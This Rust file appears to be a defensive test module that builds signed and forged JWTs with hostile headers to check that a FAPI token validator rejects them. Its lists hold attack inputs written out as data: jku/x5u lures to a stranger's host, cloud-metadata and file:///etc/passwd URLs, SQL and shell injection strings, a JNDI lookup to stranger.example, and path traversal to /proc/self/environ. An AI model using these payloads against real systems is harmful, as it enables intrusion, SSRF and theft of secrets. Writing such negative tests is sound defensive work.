//! Attacks by the header: members that bring keys or rules, and key ids that are more than a name.

use aws_lc_rs::signature::KeyPair as _;
use ponte_fapi::base64url;
use serde_json::{Value, json};

use crate::Attacks;
use crate::world::{ENC_KID, KID, Kind, forged, header, header_with, payload, signed, world};

/// Where a stranger would like us to fetch his keys from.
const LURES: [&str; 5] = [
    "https://stranger.example/keys.jwks",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "https://keystore.directory.openbankingbrasil.org.br@stranger.example/application.jwks",
    "data:application/json,{}",
];

fn strangers_jwk() -> Value {
    let n = base64url::encode(world().stranger.public_key().modulus().big_endian_without_leading_zero());
    json!({ "kty": "RSA", "use": "sig", "alg": "PS256", "kid": KID, "n": n, "e": "AQAB" })
}

/// Members with a key or the way to one, signed by the stranger whose key it is; and the forbidden ones once more
/// with a good signature, because even an honest key may not bring them.
pub(crate) fn members(kind: Kind, attacks: &mut Attacks) {
    let mut brought = vec![
        ("jwk", strangers_jwk().to_string()),
        ("jwk", json!({ "kty": "oct", "k": "c2VjcmV0" }).to_string()),
        ("x5c", json!(["MIIBBjCBrAIBAjAKBggqhkjOPQQDAjAPMQ0wCwYDVQQDDARtdGxz"]).to_string()),
        ("crit", r#"["exp"]"#.to_owned()),
        ("crit", r#"["b64"],"b64":false"#.to_owned()),
        ("crit", r#"["alg","kid","typ"]"#.to_owned()),
        ("crit", r#"["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true"#.to_owned()),
        ("b64", "false".to_owned()),
        ("b64", "true".to_owned()),
        ("zip", r#""DEF""#.to_owned()),
        ("cty", r#""JWT""#.to_owned()),
        ("cty", r#""application/json""#.to_owned()),
    ];
    for name in ["jwk", "jku", "x5u", "x5c", "crit", "b64", "zip"] {
        brought.extend(["null", "\"\"", "[]", "{}", "false", "0"].map(|value| (name, value.to_owned())));
    }
    for lure in LURES {
        brought.extend(["jku", "x5u"].map(|name| (name, format!("\"{lure}\""))));
    }
    for (name, value) in &brought {
        let header = header_with(kind, &format!(r#""{name}":{value}"#));
        attacks.sign(format!("{name} {value} with a good signature"), &signed(&header, payload(kind)));
        attacks.sign(format!("{name} {value} of a stranger"), &forged(&header, payload(kind)));
    }
    // A member that names a key is ignored: the stranger's signature stays one.
    for name in ["x5t", "x5t#S256", "jwks", "jwks_uri", "key", "certs", "iss", "sub", "client_id"] {
        for value in
            [r#""ungWv48Bz-pBQUDeXa4iI7ADYaOWF3qctBD_YfIAFa0""#.to_owned(), strangers_jwk().to_string()]
        {
            let header = header_with(kind, &format!(r#""{name}":{value}"#));
            attacks.sign(format!("{name} of a stranger"), &forged(&header, payload(kind)));
        }
    }
    for (name, text) in [
        ("a list", format!(r#"["PS256",null,"{}",null,"{KID}"]"#, kind.typ())),
        ("a text", format!("\"{}\"", header(kind).replace('"', "\\\""))),
        ("a list of headers", format!("[{}]", header(kind))),
        ("two headers", format!("{0}{0}", header(kind))),
        ("null", "null".to_owned()),
        ("nothing", String::new()),
        ("an open object", header(kind).replace('}', "")),
        ("a comment", format!("{}//", header(kind))),
        ("single quotes", header(kind).replace('"', "'")),
        ("a trailing comma", header(kind).replace('}', ",}")),
    ] {
        attacks.sign(format!("header is {name}"), &signed(text, payload(kind)));
    }
}

/// Key ids that name no key of ours, each with a good signature; and ours on tokens that strangers signed.
pub(crate) fn key_ids(kind: Kind, attacks: &mut Attacks) {
    let mut ids = vec![
        "null".to_owned(),
        "0".to_owned(),
        "true".to_owned(),
        "{}".to_owned(),
        "[]".to_owned(),
        format!("[\"{KID}\"]"),
        format!("{{\"kid\":\"{KID}\"}}"),
        "1e400".to_owned(),
    ];
    ids.extend(
        [
            "",
            " ",
            "sig-2",
            "SIG-1",
            "Sig-1",
            "sig-1 ",
            " sig-1",
            "sig-1\\u0000",
            "sig-1\\n",
            "sig-1,sig-2",
            "sig-1;",
            "sig-1#",
            "sig-1?",
            "sig-1/../sig-1",
            "./sig-1",
            "%73ig-1",
            "sig%2D1",
            "*",
            "?",
            "sig-%",
            "^sig-1$",
            ".*",
            "../../../../dev/null",
            "..\\\\..\\\\windows\\\\win.ini",
            "/dev/null",
            "/proc/self/environ",
            "file:///dev/null",
            "https://stranger.example/key",
            "' OR '1'='1",
            "sig-1' --",
            "x' UNION SELECT 'a",
            "$(sleep 9)",
            "`id`",
            "|/bin/true",
            "; cat /etc/passwd",
            "${jndi:ldap://stranger.example/a}",
            "{{7*7}}",
            "<!ENTITY x SYSTEM 'a'>",
            "__proto__",
            "constructor",
            "undefined",
            "null",
            "NaN",
            "0",
            "-1",
            "\\u202esig-1",
            "s\\u0131g-1",
            "\\ufb01",
            "sig\\u20101",
            ENC_KID,
        ]
        .map(|id| format!("\"{id}\"")),
    );
    ids.extend([256, 257, 700, 1_024, 10_000].map(|length| format!("\"{}\"", "k".repeat(length))));
    for id in &ids {
        let header = header(kind).replace(&format!("\"{KID}\""), id);
        let short: String = id.chars().take(40).collect();
        attacks.sign(format!("kid {short} with a good signature"), &signed(&header, payload(kind)));
        attacks.sign(format!("kid {short} of a stranger"), &forged(&header, payload(kind)));
    }
    let without = header(kind).replace(&format!(r#""kid":"{KID}","#), "");
    attacks.sign("no kid with a good signature", &signed(&without, payload(kind)));
    let elsewhere = without.replacen('{', &format!(r#"{{"KID":"{KID}","Kid":"{KID}","key_id":"{KID}","#), 1);
    attacks.sign("kid under other names", &signed(elsewhere, payload(kind)));
}
